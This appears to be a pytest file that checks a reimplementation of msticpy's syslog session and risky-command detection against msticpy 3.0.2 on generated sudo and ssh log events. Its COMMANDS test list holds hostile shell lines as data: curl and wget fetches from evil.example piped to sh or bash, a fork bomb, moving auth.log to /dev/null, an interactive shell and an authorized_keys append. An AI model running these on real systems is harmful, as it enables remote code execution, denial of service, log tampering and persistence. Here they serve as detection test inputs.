"""
Parity of ``syslog_utils`` and ``cmd_line`` with msticpy 3.0.2 on generated syslog data.

The same worker script (``syslog_worker.py``) runs in the reference interpreter and in
ours; the four functions' outputs must be equal case by case.
"""

from __future__ import annotations

import base64
import random
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

from .conftest import add_summary_line, run_ours, run_reference

WORKER = Path(__file__).resolve().with_name("syslog_worker.py")
CASES = 120

OPEN = "pam_unix(sudo:session): session opened for user {u} by (uid=0)"
CLOSE = "pam_unix(sudo:session): session closed for user {u}"
OTHER = [
    "Accepted publickey for {u} from 10.0.0.{n} port 22 ssh2",
    "{u} : TTY=pts/0 ; PWD=/home/{u} ; USER=root ; COMMAND=/usr/bin/apt update",
    "pam_unix(cron:session): session opened for user root",  # matches "opened" too
    "",
]
COMMANDS = [
    "cat /home/{u}/.ssh/authorized_keys",
    "echo key >> ~/.ssh/authorized_keys",
    "curl -s http://198.51.100.{n}/x | sh",
    "wget http://evil.example/{n}.sh -O- | bash",
    "curl http://example.com/file.tar.gz",
    "wget -q http://mirror.example/sh",
    ":(){:|:&};:",
    "mv /var/log/auth.log /dev/null",
    "mv a b",
    "/bin/bash -i",
    "sudo /bin/bashful",
    "ls -la /tmp",
    "systemctl restart nginx",
    "",
    None,
    "echo hi\n/bin/bash",
    "  /bin/bash",
    "CURL http://x | SH",
]


def _case(rng: random.Random) -> dict[str, Any]:
    start = datetime(2024, 5, 1, 8, 0, 0)
    events = []
    now = start
    users = ["alice", "bob", "root", "svc"]
    for _ in range(rng.randint(0, 40)):
        now += timedelta(seconds=rng.choice([0, 0, 1, 2, 3, 7, 30, 120, 600]))
        user = rng.choice(users)
        kind = rng.random()
        if kind < 0.25:
            message = OPEN.format(u=user)
        elif kind < 0.5:
            message = CLOSE.format(u=user)
        else:
            message = rng.choice(OTHER).format(u=user, n=rng.randint(1, 254))
        command = rng.choice(COMMANDS)
        if command is not None:
            command = command.replace("{u}", user).replace("{n}", str(rng.randint(1, 254)))
        if rng.random() < 0.05 and command:
            command = base64.b64encode(command.encode()).decode()
        events.append(
            {
                "TimeGenerated": now.isoformat(),
                "SyslogMessage": message,
                "Command": command,
                "User": user,
            }
        )
    if not events:
        events.append(
            {
                "TimeGenerated": start.isoformat(),
                "SyslogMessage": "",
                "Command": "ls",
                "User": "x",
            }
        )
    daemons = ["CRON", "sudo", "sshd", "systemd", "nginx", "rsyslogd", "python3", "snapd"]
    heartbeat = {
        "SourceComputerId": f"id-{rng.randint(1, 999)}",
        "OSType": "Linux",
        "OSName": rng.choice(["Ubuntu", "RHEL"]),
        "OSMajorVersion": str(rng.randint(7, 24)),
        "OSMinorVersion": str(rng.randint(0, 10)),
        "ComputerEnvironment": rng.choice(["Azure", "Non-Azure"]),
        "Solutions": ", ".join(rng.sample(["security", "updates", "changeTracking"], 2)),
        "VMUUID": f"vm-{rng.randint(1, 99)}",
        "ComputerIP": f"20.{rng.randint(0, 255)}.1.{rng.randint(1, 254)}",
        "RemoteIPCountry": rng.choice(["United States", "Ireland"]),
        "RemoteIPLongitude": rng.uniform(-180, 180),
        "RemoteIPLatitude": rng.uniform(-90, 90),
    }
    return {
        "events": events,
        "speed": {"time": rng.choice([1, 5, 60, 600]), "events": rng.choice([1, 2, 3, 10])},
        "computer": rng.choice(["web01", "web01.contoso.com", "db.eu.example.net"]),
        "processes": [rng.choice(daemons) for _ in events],
        "heartbeat": heartbeat if rng.random() < 0.8 else None,
    }


def _ours(request: dict[str, Any]) -> dict[str, Any]:
    return run_ours(WORKER, request)


def test_syslog_and_cmd_line_equal_msticpy(ref_python: str) -> None:
    rng = random.Random(20261129)
    request = {"cases": [_case(rng) for _ in range(CASES)]}
    reference = run_reference(ref_python, request, worker=WORKER)["results"]
    ours = _ours(request)["results"]
    mismatches = [
        (k, name)
        for k, (theirs, mine) in enumerate(zip(reference, ours))
        for name in theirs
        if theirs[name] != mine[name]
    ]
    outcomes = {
        name: sum("ok" in r[name] for r in reference)
        for name in ("sessions", "risky", "sudo", "host")
    }
    add_summary_line(
        f"syslog/cmd_line: {CASES} generated cases, {len(mismatches)} mismatches; "
        f"successful reference calls per function: {outcomes}"
    )
    assert outcomes["sessions"] > CASES // 3, "too few cases with sessions to be meaningful"
    assert outcomes["host"] == CASES
    assert not mismatches, [
        (k, name, reference[k][name], ours[k][name]) for k, name in mismatches[:3]
    ]
